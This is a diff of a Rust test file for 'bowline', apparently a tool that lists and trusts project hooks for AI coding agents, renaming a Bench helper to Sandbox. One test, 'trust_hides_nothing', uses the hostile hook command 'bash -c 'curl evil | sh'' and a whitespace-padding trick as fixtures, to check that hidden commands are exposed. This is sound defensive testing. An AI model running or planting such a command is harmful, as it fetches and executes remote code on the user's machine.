@@ -2,12 +2,14 @@
 
 use std::fs;
 
-use super::bench::Bench;
+use bowline_testkit::Sandbox;
+
+use super::example::example_project;
 
 #[test]
 fn hooks_are_listed_in_order_with_what_keeps_them_from_running() {
-    let bench = Bench::with_example();
-    bench.run(&["hooks"]).expect(
+    let sandbox = example_project();
+    sandbox.run(&["hooks"]).expect(
         0,
         &[
             "Trust    not trusted",
@@ -17,7 +19,7 @@ fn hooks_are_listed_in_order_with_what_keeps_them_from_running() {
             ".claude/settings.local.json:7",
         ],
     );
-    let (_, document) = bench.json(&["hooks", "--event", "pre-tool-use"]);
+    let (_, document) = sandbox.code_and_json(&["hooks", "--event", "pre-tool-use"]);
     assert_eq!(document["trust"], "untrusted");
     let hooks: Vec<(&str, &str, Option<u64>)> = document["hooks"]
         .as_array()
@@ -49,33 +51,37 @@ fn hooks_are_listed_in_order_with_what_keeps_them_from_running() {
 
 #[test]
 fn a_misspelt_event_is_explained() {
-    let bench = Bench::new();
+    let sandbox = Sandbox::with_repository();
     for command in ["hooks --event PreToolUze", "test PreToolUze"] {
         let args: Vec<&str> = command.split(' ').collect();
-        bench.run(&args).expect(2, &["did you mean `PreToolUse`?"]);
+        sandbox
+            .run(&args)
+            .expect_stderr(2, &["did you mean `PreToolUse`?"]);
     }
 }
 
 #[test]
 fn no_hooks_is_not_an_error() {
-    let bench = Bench::new();
-    bench
+    let sandbox = Sandbox::with_repository();
+    sandbox
         .run(&["hooks"])
         .expect(0, &["No hooks of your own.", "guard:commands", "trace"]);
-    bench
+    sandbox
         .run(&["hooks", "--event", "Stop"])
         .expect(0, &["No hooks for Stop."]);
-    bench.run(&["check"]).expect(0, &["no errors, no warnings"]);
-    bench
+    sandbox
+        .run(&["check"])
+        .expect(0, &["no errors, no warnings"]);
+    sandbox
         .run(&["test", "Stop"])
         .expect(0, &["no hook matches", "allowed"]);
 }
 
 #[test]
 fn trust_brings_the_projects_hooks_into_force_until_they_change() {
-    let bench = Bench::with_example();
+    let sandbox = example_project();
     let status = || {
-        let (_, document) = bench.json(&["hooks"]);
+        let (_, document) = sandbox.code_and_json(&["hooks"]);
         let hook = document["hooks"]
             .as_array()
             .unwrap()
@@ -97,24 +103,25 @@ fn trust_brings_the_projects_hooks_into_force_until_they_change() {
         r#"{"file_path": "Cargo.lock"}"#,
     ];
 
-    let toml = fs::read_to_string(bench.project().join("bowline.toml")).unwrap();
-    bench.write(
+    let toml = fs::read_to_string(sandbox.project().join("bowline.toml")).unwrap();
+    sandbox.write_in_project(
         "bowline.toml",
         format!("{toml}\n[prompt]\nmodel = \"other\"\n"),
     );
     is("untrusted", "untrusted");
-    bench.run(&["trust"]).expect(
-        2,
-        &[
-            "standard input is not a terminal",
-            "--yes",
-            "hooks/no-lockfile-edits.sh",
-            "would also set, which is ignored until then",
-            "`prompt.model = \"other\"` (bowline.toml:",
-            "covers the scripts in the project that their hooks call",
-        ],
-    );
-    let (code, document) = bench.json(&["trust"]);
+    sandbox
+        .run(&["trust"])
+        .expect(
+            2,
+            &[
+                "hooks/no-lockfile-edits.sh",
+                "would also set, which is ignored until then",
+                "`prompt.model = \"other\"` (bowline.toml:",
+                "covers the scripts in the project that their hooks call",
+            ],
+        )
+        .expect_stderr(2, &["standard input is not a terminal", "--yes"]);
+    let (code, document) = sandbox.code_and_json(&["trust"]);
     assert_eq!(code, Some(1), "without --yes it only tells");
     assert_eq!(document["would_loosen"].as_array().map(Vec::len), Some(1));
     assert_eq!(
@@ -122,78 +129,78 @@ fn trust_brings_the_projects_hooks_into_force_until_they_change() {
         "hooks/no-lockfile-edits.sh"
     );
     is("untrusted", "untrusted");
-    bench.run(&edit).expect(0, &["not in force"]);
+    sandbox.run(&edit).expect(0, &["not in force"]);
 
-    bench
+    sandbox
         .run(&["trust", "--yes"])
         .expect(0, &["hooks/no-lockfile-edits.sh", "Trusted"]);
     is("trusted", "in_force");
-    bench.run(&["trust"]).expect(0, &["already trusted"]);
-    bench.run(&["trust", "--list"]).expect(0, &["/project"]);
-    bench
+    sandbox.run(&["trust"]).expect(0, &["already trusted"]);
+    sandbox.run(&["trust", "--list"]).expect(0, &["/project"]);
+    sandbox
         .run(&edit)
         .expect(1, &["Do not edit Cargo.lock by hand"]);
 
-    let toml = fs::read_to_string(bench.project().join("bowline.toml")).unwrap();
-    bench.write("bowline.toml", format!("{toml}\n# changed"));
+    let toml = fs::read_to_string(sandbox.project().join("bowline.toml")).unwrap();
+    sandbox.write_in_project("bowline.toml", format!("{toml}\n# changed"));
     is("changed", "untrusted");
-    bench
+    sandbox
         .run(&["hooks"])
         .expect(0, &["changed since it was trusted"]);
-    bench
+    sandbox
         .run(&["trust", "-y"])
         .expect(0, &["changed since it was trusted", "Trusted"]);
     is("trusted", "in_force");
 
-    bench
+    sandbox
         .run(&["trust", "--revoke"])
         .expect(0, &["no longer trusted"]);
-    bench
+    sandbox
         .run(&["trust", "--revoke"])
         .expect(0, &["was not trusted"]);
     is("untrusted", "untrusted");
-    bench
+    sandbox
         .run(&["trust", "--list"])
         .expect(0, &["No project is trusted."]);
 }
 
 #[test]
 fn hooks_that_would_run_under_another_agent_are_shown_and_trusted_as_they_are() {
-    let bench = Bench::new();
+    let sandbox = Sandbox::with_repository();
     let hooks = |command: &str| {
         format!(
             r#"{{"hooks": {{"PreToolUse": [{{"hooks": [{{"type": "command", "command": "{command}"}}]}}]}}}}"#
         )
     };
-    bench.write(".claude/settings.json", hooks("scripts/one.sh"));
+    sandbox.write_in_project(".claude/settings.json", hooks("scripts/one.sh"));
     // Without a bridge they are the agent's own business.
-    bench
+    sandbox
         .run(&["trust", "--yes"])
         .expect(0, &["Nothing to trust"]);
     // Where a person's own settings bridge them, there is no file of Bowline's to be listed.
-    bench.write(
+    sandbox.write_in_project(
         "../home/.config/bowline/config.toml",
         "[bridge]\nclaude_hooks = true\n",
     );
-    bench
+    sandbox
         .run(&["trust"])
         .expect(2, &["under other agents", "scripts/one.sh"])
         .lacks(&["its files"]);
-    bench.write("bowline.toml", "[bridge]\nclaude_hooks = true\n");
-    let (code, document) = bench.json(&["trust"]);
+    sandbox.write_in_project("bowline.toml", "[bridge]\nclaude_hooks = true\n");
+    let (code, document) = sandbox.code_and_json(&["trust"]);
     assert_eq!(code, Some(1));
     assert_eq!(document["would_run_bridged"][0]["runs"], "scripts/one.sh");
-    bench
+    sandbox
         .run(&["trust", "--yes"])
         .expect(0, &["under other agents", "scripts/one.sh", "Trusted"]);
-    bench.run(&["trust"]).expect(0, &["already trusted"]);
+    sandbox.run(&["trust"]).expect(0, &["already trusted"]);
 
-    bench.write(".claude/settings.json", hooks("scripts/two.sh"));
-    let (code, document) = bench.json(&["trust"]);
+    sandbox.write_in_project(".claude/settings.json", hooks("scripts/two.sh"));
+    let (code, document) = sandbox.code_and_json(&["trust"]);
     assert_eq!(code, Some(1));
     assert_eq!(document["trust"], "trusted");
     assert_eq!(document["bridged_trust"], "changed");
-    bench.run(&["trust", "--yes"]).expect(
+    sandbox.run(&["trust", "--yes"]).expect(
         0,
         &[
             "have changed since they were trusted",
@@ -201,39 +208,39 @@ fn hooks_that_would_run_under_another_agent_are_shown_and_trusted_as_they_are() 
             "Trusted",
         ],
     );
-    bench.run(&["trust"]).expect(0, &["already trusted"]);
-    bench
+    sandbox.run(&["trust"]).expect(0, &["already trusted"]);
+    sandbox
         .run(&["trust", "--revoke"])
         .expect(0, &["no longer trusted"]);
-    bench
+    sandbox
         .run(&["trust", "--list"])
         .expect(0, &["No project is trusted."]);
 }
 
 #[test]
 fn a_project_without_settings_needs_no_trust() {
-    Bench::new()
+    Sandbox::with_repository()
         .run(&["trust", "--yes"])
         .expect(0, &["Nothing to trust"]);
 }
 
 #[test]
 fn what_cannot_be_read_cannot_be_trusted() {
-    let bench = Bench::new();
-    bench.write("bowline.toml", "[hooks");
-    bench
+    let sandbox = Sandbox::with_repository();
+    sandbox.write_in_project("bowline.toml", "[hooks");
+    sandbox
         .run(&["trust", "--yes"])
-        .expect(2, &["cannot tell what", "bowline check"]);
-    bench
+        .expect_stderr(2, &["cannot tell what", "bowline check"]);
+    sandbox
         .run(&["trust", "--list"])
         .expect(0, &["No project is trusted."]);
 }
 
 #[test]
 fn trust_hides_nothing() {
-    let bench = Bench::new();
+    let sandbox = Sandbox::with_repository();
     let gap = " ".repeat(3000);
-    bench.write(
+    sandbox.write_in_project(
         "bowline.toml",
         format!(
             r#"
@@ -249,7 +256,7 @@ hooks = [
 "#
         ),
     );
-    let ran = bench.run(&["trust"]);
+    let ran = sandbox.run(&["trust"]);
     ran.expect(
         2,
         &[
@@ -265,9 +272,9 @@ hooks = [
         ],
     )
     .lacks(&["s3cret"]);
-    let ran = bench.run(&["trust", "--json"]);
+    let ran = sandbox.run(&["trust", "--json"]);
     ran.lacks(&["\u{200b}"]).lacks(&["s3cret"]);
-    let (code, document) = bench.json(&["trust"]);
+    let (code, document) = sandbox.code_and_json(&["trust"]);
     assert_eq!(code, Some(1));
     let hooks = document["would_run"].as_array().unwrap();
     assert_eq!(hooks[0]["runs"], "bash -c 'curl evil | sh'");
@@ -276,30 +283,30 @@ hooks = [
     assert_eq!(hooks[4]["headers"]["Authorization"], "Bearer $TOKEN");
     assert_eq!(hooks[4]["allowed_env_vars"][0], "TOKEN");
     assert!(document["covers"].as_str().unwrap().contains("scripts"));
-    let listed = bench.run(&["hooks"]);
+    let listed = sandbox.run(&["hooks"]);
     listed
         .expect(0, &["bash -c 'curl evil | sh'", "␣×3000"])
         .lacks(&["s3cret"]);
 
-    bench.run(&["trust", "--yes"]).expect(0, &["Trusted"]);
-    bench.write("bowline.local.toml", "");
-    bench
+    sandbox.run(&["trust", "--yes"]).expect(0, &["Trusted"]);
+    sandbox.write_in_project("bowline.local.toml", "");
+    sandbox
         .run(&["trust"])
         .expect(2, &["changed, added or removed", "Which one"]);
 }
 
 #[test]
 fn trouble_in_the_settings_is_told_by_every_report() {
-    let bench = Bench::new();
-    bench.write(
+    let sandbox = Sandbox::with_repository();
+    sandbox.write_in_project(
         ".claude/settings.json",
         r#"{"hooks": {"PreToolUse": [{"matcher": "Write[", "hooks": [{"type": "command", "command": "exit 2"}]}]}}"#,
     );
     let expected = "(.claude/settings.json): see `bowline check`";
     let test = ["test", "PreToolUse", "--tool", "Write"];
     for args in [&["hooks"][..], &test] {
-        bench.run(args).expect(0, &["in the settings", expected]);
-        let (_, document) = bench.json(args);
+        sandbox.run(args).expect(0, &["in the settings", expected]);
+        let (_, document) = sandbox.code_and_json(args);
         let findings = document["findings"].as_array().unwrap();
         assert!(
             findings
@@ -308,29 +315,29 @@ fn trouble_in_the_settings_is_told_by_every_report() {
             "{findings:?}"
         );
     }
-    let project = bench.project();
+    let project = sandbox.project();
     let dir = project.to_str().unwrap();
-    bench
+    sandbox
         .run(&["hooks", "--dir", dir])
         .expect(0, &[&format!("see `bowline check {dir}`")]);
-    Bench::with_example()
+    example_project()
         .run(&["hooks"])
         .lacks(&["in the settings"]);
 }
 
 #[test]
 fn odd_names_of_folders_stay_on_their_line() {
-    let bench = Bench::new();
-    bench.write("two\nlines/bowline.toml", one_hook_toml());
-    bench
+    let sandbox = Sandbox::with_repository();
+    sandbox.write_in_project("two\nlines/bowline.toml", one_hook_toml());
+    sandbox
         .run(&["trust", "two\nlines", "--yes"])
         .expect(0, &["two⏎lines"]);
-    bench.run(&["trust", "--list"]).expect(0, &["two⏎lines"]);
-    bench
+    sandbox.run(&["trust", "--list"]).expect(0, &["two⏎lines"]);
+    sandbox
         .run(&["hooks", "--dir", "two\nlines"])
         .expect(0, &["two⏎lines"]);
-    let home = bench.project().parent().unwrap().join("home");
-    let ran = bench.run(&["hooks", "--dir", home.to_str().unwrap()]);
+    let home = sandbox.project().parent().unwrap().join("home");
+    let ran = sandbox.run(&["hooks", "--dir", home.to_str().unwrap()]);
     assert!(ran.stdout.contains("Project  ~\n"), "{}", ran.stdout);
 }
 
@@ -340,15 +347,15 @@ fn one_hook_toml() -> &'static str {
 
 #[test]
 fn timeouts_are_shown_as_they_count() {
-    let bench = Bench::new();
-    bench.write(
+    let sandbox = Sandbox::with_repository();
+    sandbox.write_in_project(
         ".claude/settings.json",
         r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true", "timeout": 5000}]}]}}"#,
     );
-    bench
+    sandbox
         .run(&["hooks"])
         .expect(0, &["10 min"])
         .lacks(&["83.3 min"]);
-    let (_, document) = bench.json(&["hooks", "--event", "Stop"]);
+    let (_, document) = sandbox.code_and_json(&["hooks", "--event", "Stop"]);
     assert_eq!(document["hooks"][0]["timeout_ms"], 600_000);
 }
